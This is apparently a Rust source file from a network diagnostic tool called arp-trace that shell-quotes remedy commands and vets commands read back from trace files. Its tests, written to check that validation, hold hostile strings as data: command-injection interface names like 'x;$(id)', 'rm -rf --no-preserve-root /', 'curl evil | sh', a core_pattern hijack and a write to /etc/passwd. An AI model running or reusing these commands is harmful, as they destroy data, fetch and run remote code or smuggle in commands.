//! Commands as arp-trace prints them (`fix:`, `persist:`, `remedy` in JSON): one simple
//! command per string, safe to paste into sh whatever the names in it. Every argument is
//! quoted for POSIX sh unless it is a plain word (letters, digits and `_@%+=:,./-`), so
//! `sysctl -w net.ipv4.conf.eth3.arp_announce=1` reads as always and an interface named
//! `x;$(id)` becomes `'net.ipv4.conf.x;$(id).arp_announce=1'`: single quotes, with an embedded
//! quote written `'\''`. Prose (what to do by hand) is a comment, which sh ignores.
//!
//! A namespace without an `ip netns` name is entered through a process inside it, found by the
//! namespace's inode when the command runs ([`by_inode`]): a PID printed earlier may name
//! another namespace by then.
//!
//! Remedies read back from a trace are vetted ([`vet`]): a file may carry any text, and
//! arp-trace prints only commands of the shapes it writes.

use std::borrow::Cow;

use arp_trace_model::{visible, Remedy};

/// Characters that need no quoting anywhere in a word (`=` and `:` only matter in the first
/// word, which arp-trace never builds from a name).
fn plain(c: char) -> bool {
    c.is_ascii_alphanumeric() || "_@%+=:,./-".contains(c)
}

/// `word` as one sh word: as it is when plain, else single-quoted.
pub fn quote(word: &str) -> Cow<'_, str> {
    if !word.is_empty() && word.chars().all(plain) {
        return Cow::Borrowed(word);
    }
    Cow::Owned(format!("'{}'", word.replace('\'', r"'\''")))
}

/// A command from its words, each quoted as needed.
pub fn command<S: AsRef<str>>(words: &[S]) -> String {
    let quoted: Vec<Cow<str>> = words.iter().map(|w| quote(w.as_ref())).collect();
    quoted.join(" ")
}

/// Prose as a comment: `# text`, on one line whatever the text holds.
pub fn comment(text: &str) -> String {
    format!("# {}", visible(text))
}

/// The prefix that runs a command in the namespace with this inode: the PID of a process in it
/// is looked up when the command runs, and the command fails (nsenter cannot open
/// `/proc//ns/net`) when no process holds it any more.
pub fn by_inode(inode: u32) -> String {
    format!(
        "nsenter --net=/proc/\"$(lsns -n -t net -o NS,PID | awk '$1 == {inode} {{ print $2; \
         exit }}')\"/ns/net "
    )
}

/// The prefix that runs a command in the `ip netns` namespace `name`.
pub fn by_name(name: &str) -> String {
    format!("ip netns exec {} ", quote(name))
}

/// Splits `s` into sh words if it is a simple command made only of plain and single-quoted
/// words (and `\'`), with an optional trailing comment; `None` for anything sh would expand,
/// redirect, chain or continue. `>` is allowed as a word of its own when `redirect` is set.
fn words(s: &str, redirect: bool) -> Option<Vec<String>> {
    let mut out = Vec::new();
    let mut cur: Option<String> = None;
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            ' ' => {
                out.extend(cur.take());
            }
            '#' if cur.is_none() => {
                // A comment runs to the end of the line; there must be no next line.
                return (!chars.any(|c| c == '\n' || c == '\r')).then_some(out);
            }
            '\'' => {
                let w = cur.get_or_insert_with(String::new);
                loop {
                    match chars.next()? {
                        '\'' => break,
                        c => w.push(c),
                    }
                }
            }
            '\\' if chars.peek() == Some(&'\'') => {
                chars.next();
                cur.get_or_insert_with(String::new).push('\'');
            }
            '>' if redirect && cur.is_none() && chars.peek() == Some(&' ') => {
                out.push(">".into());
            }
            c if plain(c) => cur.get_or_insert_with(String::new).push(c),
            _ => return None,
        }
    }
    out.extend(cur);
    Some(out)
}

/// Whether `w` is a `sysctl -w` argument arp-trace writes (an `arp_announce` level, or an
/// IPv6 `addr_gen_mode`): the interface part is a name the kernel allows (its dots written
/// as slashes), so it cannot start a new line of a file.
fn announce_setting(w: &str) -> bool {
    let setting = |prefix: &str, key: &str, values: &[&str]| {
        w.strip_prefix(prefix)
            .and_then(|r| r.rsplit_once(key))
            .is_some_and(|(conf, v)| {
                !conf.is_empty()
                    && !conf
                        .chars()
                        .any(|c| c.is_whitespace() || c.is_control() || c == ':')
                    && values.contains(&v)
            })
    };
    setting("net.ipv4.conf.", ".arp_announce=", &["0", "1", "2"])
        || setting("net.ipv6.conf.", ".addr_gen_mode=", &["0", "1", "2", "3"])
}

/// Whether `command` is a remedy command of a shape arp-trace writes: `sysctl -w` with
/// arp_announce settings, or `ip address add ... dev NAME`, run here, in an `ip netns`
/// namespace or in one found by inode.
fn is_command(command: &str, inode: u32) -> bool {
    let rest = command.strip_prefix(&by_inode(inode)).unwrap_or(command);
    let Some(w) = words(rest, false) else {
        return false;
    };
    let w: Vec<&str> = w.iter().map(String::as_str).collect();
    let w = match w.as_slice() {
        ["ip", "netns", "exec", _, rest @ ..] => rest,
        all => all,
    };
    match w {
        ["sysctl", "-w", settings @ ..] => {
            !settings.is_empty() && settings.iter().all(|s| announce_setting(s))
        }
        ["ip", "address", "add", _, "dev", _] => true,
        _ => false,
    }
}

/// Whether `persistent` is a comment or writes arp_announce lines to a file in /etc/sysctl.d.
fn is_persistent(persistent: &str) -> bool {
    if persistent.starts_with('#') {
        return words(persistent, false).is_some();
    }
    let Some(w) = words(persistent, true) else {
        return false;
    };
    let w: Vec<&str> = w.iter().map(String::as_str).collect();
    let (lines, file) = match w.as_slice() {
        ["echo", line, ">", file] if !line.contains('\\') => (vec![*line], *file),
        ["printf", "%s\\n", lines @ .., ">", file] => (lines.to_vec(), *file),
        _ => return false,
    };
    let setting = |l: &str| announce_setting(&l.replacen(" = ", "=", 1));
    !lines.is_empty()
        && lines.iter().all(|l| setting(l))
        && file
            .strip_prefix("/etc/sysctl.d/")
            .is_some_and(|f| !f.contains('/') && f.ends_with(".conf"))
}

/// A remedy read back from a trace, as it may be printed: unchanged when it has a shape
/// arp-trace writes; `None` then. Earlier versions' forms are brought up to date (an `nsenter`
/// through a PID recorded long ago goes through the inode instead, prose becomes a comment);
/// anything else is replaced by a comment saying it is not shown. `inode` is the request's
/// namespace.
pub fn vet(r: &Remedy<'_>, inode: u32) -> Option<Remedy<'static>> {
    let (command_ok, persistent_ok) = (is_command(&r.command, inode), is_persistent(&r.persistent));
    if command_ok && persistent_ok {
        return None;
    }
    let command = if command_ok {
        r.command.to_string()
    } else {
        upgrade_command(&r.command, inode)
            .filter(|c| is_command(c, inode))
            .unwrap_or_else(|| {
                comment(
                    "the trace's remedy command is not shown: it is not a command arp-trace writes",
                )
            })
    };
    let persistent = if persistent_ok {
        r.persistent.to_string()
    } else if r.persistent.starts_with("/etc/sysctl.d configures only")
        || r.persistent.starts_with("Add that address to")
    {
        comment(&r.persistent)
    } else {
        comment("the trace's persistent remedy is not shown: it is not one arp-trace writes")
    };
    Some(Remedy {
        command: command.into(),
        persistent: persistent.into(),
        tradeoff: Cow::Owned(r.tradeoff.to_string()),
    })
}

/// The current form of a command an earlier arp-trace wrote, if it was one.
fn upgrade_command(command: &str, inode: u32) -> Option<String> {
    // `nsenter --net=/proc/PID/ns/net CMD`: PID has long been reused.
    if let Some(rest) = command.strip_prefix("nsenter --net=/proc/") {
        let (pid, cmd) = rest.split_once("/ns/net ")?;
        if pid.bytes().all(|b| b.is_ascii_digit()) {
            return Some(format!("{}{cmd}", by_inode(inode)));
        }
    }
    // `CMD (inside network namespace N)`: no way to enter it was found then.
    if let Some(cmd) = command.strip_suffix(&format!(" (inside network namespace {inode})")) {
        return Some(format!("{}{cmd}", by_inode(inode)));
    }
    // `[PREFIX]ip address add <unused address in T's subnet>/<prefix length> dev NAME`
    let (prefix, rest) = command.split_at(command.find("ip address add <unused address in ")?);
    let rest = rest.strip_prefix("ip address add <unused address in ")?;
    let (target, rest) = rest.split_once("'s subnet>/<prefix length> dev ")?;
    Some(format!("{prefix}{}", address_command(target, rest)))
}

/// `ip address add ADDRESS/PREFIX dev NAME  # ...`: placeholders `ip` refuses, so pasting it
/// unedited changes nothing.
pub fn address_command(target: &str, dev: &str) -> String {
    format!(
        "ip address add ADDRESS/PREFIX dev {}  {}",
        quote(dev),
        comment(&format!(
            "ADDRESS/PREFIX: an unused address in {target}'s subnet and its prefix length"
        ))
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_words_stay_and_the_rest_is_single_quoted() {
        assert_eq!(
            quote("net.ipv4.conf.eth3.arp_announce=1"),
            "net.ipv4.conf.eth3.arp_announce=1"
        );
        assert_eq!(quote("x;$(id)"), "'x;$(id)'");
        assert_eq!(quote("it's"), r"'it'\''s'");
        assert_eq!(quote(""), "''");
        assert_eq!(quote("a b\nc"), "'a b\nc'");
        assert_eq!(command(&["sysctl", "-w", "a`b`"]), "sysctl -w 'a`b`'");
    }

    #[test]
    fn words_are_what_sh_would_read_or_nothing() {
        assert_eq!(
            words(
                r"ip netns exec 'a'\''b' sysctl -w x=1  # a comment; $(x)",
                false
            ),
            Some(
                vec!["ip", "netns", "exec", "a'b", "sysctl", "-w", "x=1"]
                    .into_iter()
                    .map(String::from)
                    .collect()
            )
        );
        for bad in [
            "a;b", "a $(b)", "a `b`", "a | b", "a && b", "a > b", "'a", "a\nb", "a\\ b", "a # b\nc",
        ] {
            assert_eq!(words(bad, false), None, "{bad:?}");
        }
        assert!(words("echo 'x' > f", true).is_some());
    }

    #[test]
    fn stored_remedies_of_arp_traces_shapes_pass_and_others_do_not() {
        let r = |c: &str, p: &str| Remedy {
            command: c.to_string().into(),
            persistent: p.to_string().into(),
            tradeoff: "t".into(),
        };
        let ok = [
            r(
                "sysctl -w net.ipv4.conf.eth3.arp_announce=1",
                "echo 'net.ipv4.conf.eth3.arp_announce = 1' > /etc/sysctl.d/90-arp-announce-eth3.conf",
            ),
            r(
                "ip netns exec srv sysctl -w net.ipv4.conf.all.arp_announce=2 net.ipv4.conf.eth3.arp_announce=2",
                "printf '%s\\n' 'net.ipv4.conf.all.arp_announce = 2' 'net.ipv4.conf.eth3.arp_announce = 2' > /etc/sysctl.d/90-arp-announce-eth3.conf",
            ),
            r(&format!("{}sysctl -w 'net.ipv4.conf.x;$(id).arp_announce=1'", by_inode(7)), "# prose"),
            r(&address_command("198.51.100.20", "eth3"), "# prose"),
        ];
        for x in &ok {
            assert_eq!(vet(x, 7), None, "{x:?}");
        }
        let legacy = r(
            "nsenter --net=/proc/42/ns/net sysctl -w net.ipv4.conf.eth3.arp_announce=1",
            "/etc/sysctl.d configures only the host's namespace: apply it where namespace 7 is set up",
        );
        let v = vet(&legacy, 7).unwrap();
        let prose = r(
            "ip netns exec srv sysctl -w net.ipv4.conf.eth3.arp_announce=1",
            &legacy.persistent,
        );
        let kept = vet(&prose, 7).unwrap();
        assert_eq!(kept.command, prose.command);
        assert_eq!(kept.persistent, v.persistent);
        assert_eq!(
            v.command,
            format!("{}sysctl -w net.ipv4.conf.eth3.arp_announce=1", by_inode(7))
        );
        assert_eq!(v.persistent, "# /etc/sysctl.d configures only the host's namespace: apply it where namespace 7 is set up");
        let v = vet(
            &r(
                "sysctl -w net.ipv4.conf.eth3.arp_announce=1 (inside network namespace 7)",
                "# p",
            ),
            7,
        )
        .unwrap();
        assert_eq!(
            v.command,
            format!("{}sysctl -w net.ipv4.conf.eth3.arp_announce=1", by_inode(7))
        );
        let v = vet(&r("ip netns exec srv ip address add <unused address in 198.51.100.20's subnet>/<prefix length> dev eth3", "Add that address to eth3's persistent network configuration."), 7).unwrap();
        assert_eq!(
            v.command,
            format!(
                "ip netns exec srv {}",
                address_command("198.51.100.20", "eth3")
            )
        );
        assert!(v.persistent.starts_with("# Add that address"));
        for (c, p) in [
            ("rm -rf --no-preserve-root /", "# p"),
            ("sysctl -w net.ipv4.conf.x;$(id).arp_announce=1", "# p"),
            ("sysctl -w kernel.core_pattern=|/tmp/x", "# p"),
            ("curl evil | sh", "# p"),
        ] {
            let v = vet(&r(c, p), 7).unwrap();
            assert!(
                v.command
                    .starts_with("# the trace's remedy command is not shown"),
                "{c}"
            );
        }
        for p in [
            "echo 'kernel.x = 1' > /etc/sysctl.d/90-x.conf",
            "echo 'net.ipv4.conf.a.arp_announce = 1' > /etc/passwd",
            "echo 'net.ipv4.conf.a\\nkernel.x=1.arp_announce = 1' > /etc/sysctl.d/a.conf",
            "# ok\nrm -rf /",
            "printf '%s\\n' 'net.ipv4.conf.a\nkernel.x=1.arp_announce = 1' > /etc/sysctl.d/a.conf",
        ] {
            let v = vet(&r("sysctl -w net.ipv4.conf.eth3.arp_announce=1", p), 7).unwrap();
            assert!(
                v.persistent
                    .starts_with("# the trace's persistent remedy is not shown"),
                "{p}"
            );
        }
    }

    /// A scratch directory with stand-ins for the programs the commands run: each records its
    /// arguments, one per line, in `<program>.args`.
    struct Paste(std::path::PathBuf);

    impl Paste {
        fn new(tag: &str) -> Paste {
            use std::os::unix::fs::PermissionsExt;
            let d =
                std::env::temp_dir().join(format!("arp-trace-paste-{}-{tag}", std::process::id()));
            let _ = std::fs::remove_dir_all(&d);
            std::fs::create_dir_all(d.join("bin")).unwrap();
            for prog in ["sysctl", "ip", "nsenter"] {
                let f = d.join("bin").join(prog);
                let out = d.join(format!("{prog}.args"));
                std::fs::write(
                    &f,
                    format!("#!/bin/sh\nprintf '%s\\n' \"$@\" > '{}'\n", out.display()),
                )
                .unwrap();
                std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o755)).unwrap();
            }
            // lsns as it answers for one namespace held by process 4242.
            let f = d.join("bin").join("lsns");
            std::fs::write(
                &f,
                "#!/bin/sh\necho '4026531840    1'\necho '4026532281 4242'\n",
            )
            .unwrap();
            std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o755)).unwrap();
            std::fs::create_dir_all(d.join("cwd")).unwrap();
            Paste(d)
        }

        /// Pastes `cmd` into sh (checked with `sh -n` first) in an empty directory.
        fn run(&self, cmd: &str) -> std::process::Output {
            let sh = |args: &[&str]| {
                std::process::Command::new("sh")
                    .args(args)
                    .current_dir(self.0.join("cwd"))
                    .env(
                        "PATH",
                        format!("{}:/usr/bin:/bin", self.0.join("bin").display()),
                    )
                    .output()
                    .unwrap()
            };
            let n = sh(&["-n", "-c", cmd]);
            assert!(
                n.status.success(),
                "sh -n {cmd:?}: {}",
                String::from_utf8_lossy(&n.stderr)
            );
            sh(&["-c", cmd])
        }

        fn args(&self, prog: &str) -> Vec<String> {
            let t =
                std::fs::read_to_string(self.0.join(format!("{prog}.args"))).unwrap_or_default();
            t.lines().map(str::to_string).collect()
        }

        /// What the pasted commands left in the directory they ran in.
        fn left(&self) -> Vec<String> {
            let mut v: Vec<String> = std::fs::read_dir(self.0.join("cwd"))
                .unwrap()
                .flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect();
            v.sort();
            v
        }
    }

    impl Drop for Paste {
        fn drop(&mut self) {
            let _ = std::fs::remove_dir_all(&self.0);
        }
    }

    /// Interface and namespace names a root in a container can create, each of which runs a
    /// command (creating a file) if pasted unquoted or quoted naively.
    const HOSTILE: [&str; 6] = [
        "x;>m1",
        "$(>m2)",
        "`>m3`",
        "q'$(>m4)'",
        "a\\b|>m5",
        "v.1;>m6",
    ];

    #[test]
    fn pasted_remedies_run_one_command_with_the_names_intact() {
        use crate::explain::tests::{addr, request, trigger};
        use arp_trace_model::{NsFacts, Origin};
        for (i, dev) in HOSTILE.iter().enumerate() {
            let facts = NsFacts {
                announce_all: 0,
                announce_dev: [(dev.to_string(), 0)].into(),
                addrs: vec![
                    addr(dev, "198.51.100.10", 24),
                    addr("eth5", "203.0.113.10", 24),
                ],
                ..Default::default()
            };
            let ev = request(
                dev,
                "203.0.113.10",
                "198.51.100.20",
                Some(trigger("203.0.113.10", Origin::Local)),
            );
            let r = crate::explain::explain(&ev, &facts).remedy.unwrap();
            let key = format!("net.ipv4.conf.{}.arp_announce", dev.replace('.', "/"));
            let p = Paste::new(&format!("own{i}"));
            assert!(p.run(&r.command).status.success(), "{}", r.command);
            assert_eq!(
                p.args("sysctl"),
                ["-w".to_string(), format!("{key}=1")],
                "{}",
                r.command
            );
            // The file it writes, put in the scratch directory instead of /etc/sysctl.d.
            let etc = p.0.join("etc");
            std::fs::create_dir_all(&etc).unwrap();
            let persistent = r
                .persistent
                .replace("/etc/sysctl.d", &etc.display().to_string());
            assert!(p.run(&persistent).status.success(), "{}", r.persistent);
            let file = etc.join(format!("90-arp-announce-{dev}.conf"));
            assert_eq!(
                std::fs::read_to_string(&file).unwrap_or_default(),
                format!("{key} = 1\n"),
                "{}",
                r.persistent
            );
            assert_eq!(
                p.left(),
                Vec::<String>::new(),
                "{} / {}",
                r.command,
                r.persistent
            );

            // In another namespace: by name, and by inode through the process lsns finds.
            let mut named = r.clone();
            crate::explain::run_in_namespace(&mut named, 4026532281, Some(dev));
            assert!(p.run(&named.command).status.success(), "{}", named.command);
            assert_eq!(
                p.args("ip"),
                ["netns", "exec", dev, "sysctl", "-w", &format!("{key}=1")]
            );
            assert!(
                p.run(&named.persistent).status.success(),
                "{}",
                named.persistent
            );
            let mut unnamed = r.clone();
            crate::explain::run_in_namespace(&mut unnamed, 4026532281, None);
            assert!(
                p.run(&unnamed.command).status.success(),
                "{}",
                unnamed.command
            );
            assert_eq!(
                p.args("nsenter"),
                [
                    "--net=/proc/4242/ns/net",
                    "sysctl",
                    "-w",
                    &format!("{key}=1")
                ]
            );
            let mut gone = r.clone();
            crate::explain::run_in_namespace(&mut gone, 1, None);
            p.run(&gone.command);
            assert_eq!(
                p.args("nsenter")[0],
                "--net=/proc//ns/net",
                "no process: nothing to enter"
            );
            assert_eq!(p.left(), Vec::<String>::new());
            // What a trace carries back passes as it is.
            for x in [&r, &named, &unnamed] {
                assert_eq!(vet(x, 4026532281), None, "{x:?}");
            }
        }
    }

    #[test]
    fn the_address_placeholder_is_refused_by_ip_not_by_sh() {
        let p = Paste::new("addr");
        for dev in HOSTILE {
            let c = address_command("198.51.100.20", dev);
            assert!(p.run(&c).status.success(), "{c}");
            assert_eq!(
                p.args("ip"),
                ["address", "add", "ADDRESS/PREFIX", "dev", dev]
            );
        }
        assert_eq!(p.left(), Vec::<String>::new());
    }
}
